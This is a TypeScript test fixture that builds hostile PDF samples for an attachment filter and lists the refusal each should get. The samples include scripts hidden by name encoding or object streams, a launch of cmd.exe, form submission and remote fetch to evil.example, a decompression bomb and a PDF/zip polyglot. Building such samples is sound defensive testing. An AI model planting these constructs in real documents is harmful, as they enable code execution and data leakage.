import type { AttachmentRefusal } from '#contract/attachments.ts'
import * as corpus from './corpus.fixture.ts'

/** `drawn`: kept as a picture of ours, without what came with it. `child`: asked of the walled-off process in every run of the tests; the others there only by `prove files`. */
export type Hostile = {
  readonly title: string
  readonly end: AttachmentRefusal | 'drawn'
  readonly make: () => Promise<Buffer> | Buffer
  readonly child?: true
}

export const latin = (text: string) => Buffer.from(text, 'latin1')
export const zip = Buffer.concat([
  latin('PK\x03\x04\x14\0\0\0\0\0'),
  Buffer.alloc(16),
  latin('\x01\0\0\0a'),
  latin('PK\x05\x06'),
  Buffer.alloc(18),
])

const js = '<< /S /JavaScript /JS (app.alert(1)) >>'
const folded = (inside: string) =>
  corpus.streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', corpus.quickly(Buffer.from(`9 0 ${inside}`)))
const acts = (what: string) => corpus.onePage(`/OpenAction << /S ${what} >>`)

export const hostilePdfs: readonly Hostile[] = [
  {
    title: 'a PDF with a script',
    end: 'active-pdf',
    make: () => corpus.onePage('/OpenAction 5 0 R', [js]),
    child: true,
  },
  {
    title: 'a PDF with a script whose name is spelled in code',
    end: 'active-pdf',
    make: () => corpus.onePage('/OpenAction 5 0 R', [js.replaceAll('/J', '/#4A')]),
  },
  {
    title: 'a PDF with a script folded into an object stream',
    end: 'active-pdf',
    make: () => corpus.onePage('/OpenAction 9 0 R', [folded(js)]),
  },
  {
    title: 'a PDF with an attached file',
    end: 'active-pdf',
    make: () => corpus.onePage('/Names << /EmbeddedFiles 5 0 R >>', ['<< >>']),
  },
  { title: 'a PDF that starts a program', end: 'active-pdf', make: () => acts('/Launch /F (cmd.exe)') },
  {
    title: 'a PDF that sends its form somewhere',
    end: 'active-pdf',
    make: () => acts('/SubmitForm /F (https://evil.example)'),
  },
  {
    title: 'a PDF that fetches another document',
    end: 'active-pdf',
    make: () => acts('/GoToR /F (\\\\\\\\evil.example\\\\a)'),
  },
  { title: 'a PDF that takes data in', end: 'active-pdf', make: () => acts('/ImportData /F (a.fdf)') },
  {
    title: 'a PDF with a film',
    end: 'active-pdf',
    make: () => corpus.onePage('', ['<< /Type /Annot /Subtype /RichMedia >>']),
  },
  {
    title: 'a PDF with a form of its own language',
    end: 'active-pdf',
    make: () => corpus.onePage('/AcroForm << /XFA 5 0 R >>', ['<< >>']),
  },
  {
    title: 'a PDF that is locked',
    end: 'encrypted-pdf',
    make: () => corpus.onePage('', ['<< /Filter /Standard /V 1 >>'], undefined, '/Encrypt 5 0 R'),
  },
  {
    title: 'a PDF with an object stream that unfolds to 200 MB',
    end: 'too-complex',
    make: () => corpus.onePage('', [folded(' '.repeat(200_000_000))]),
    child: true,
  },
  {
    title: 'a PDF with an object stream folded in another way',
    end: 'unreadable-pdf',
    make: () => corpus.onePage('', [corpus.streamOf('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', latin('x'))]),
  },
  { title: 'a PDF that is cut', end: 'truncated', make: () => corpus.onePage().subarray(0, 300) },
  { title: 'a PDF with a zip behind it', end: 'polyglot', make: () => Buffer.concat([corpus.onePage(), zip]) },
  {
    title: 'a PDF that is blank because we cannot draw it',
    end: 'unreadable-pdf',
    make: () => corpus.onePage('', [], corpus.streamOf('', Buffer.from('%'))),
  },
  {
    title: 'a PDF whose form was filled in, since the answers would come out missing',
    end: 'unreadable-pdf',
    make: () => corpus.onePage('', ['<< /Type /Annot /Subtype /Widget /FT /Tx /V (yes) >>']),
  },
  {
    title: 'a PDF with a note laid over its page, which would come out missing',
    end: 'unreadable-pdf',
    make: () => corpus.onePage('', ['<< /Type /Annot /Subtype /StrikeOut >>']),
  },
  {
    title: 'a PDF with a JPEG 2000 picture, which would come out as a hole',
    end: 'unreadable-pdf',
    make: () => corpus.onePage('', [corpus.streamOf('/Subtype /Image /Filter [/JPXDecode]', Buffer.from('x'))]),
  },
  {
    title: 'a PDF that is only called one',
    end: 'unreadable-pdf',
    make: () => Buffer.from('%PDF-1.4\nnothing here\n%%EOF\n'),
  },
  {
    title: 'a PDF with words about its writer',
    end: 'drawn',
    make: () => corpus.onePage('', [`<< /Author (${corpus.CANARY}) >>`], undefined, '/Info 5 0 R'),
  },
]
